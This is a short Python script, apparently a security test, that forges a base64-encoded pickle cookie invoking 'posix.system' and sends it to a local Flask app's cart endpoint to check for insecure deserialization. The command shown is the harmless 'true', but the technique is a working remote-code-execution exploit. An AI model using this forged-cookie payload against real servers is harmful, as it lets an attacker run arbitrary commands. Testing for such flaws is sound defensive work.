import base64

from sessions.web import create_app

forged = base64.b64encode(b"cposix\nsystem\n(S'true'\ntR.").decode()
client = create_app().test_client()
client.set_cookie("cart", forged)
client.post("/cart/a")
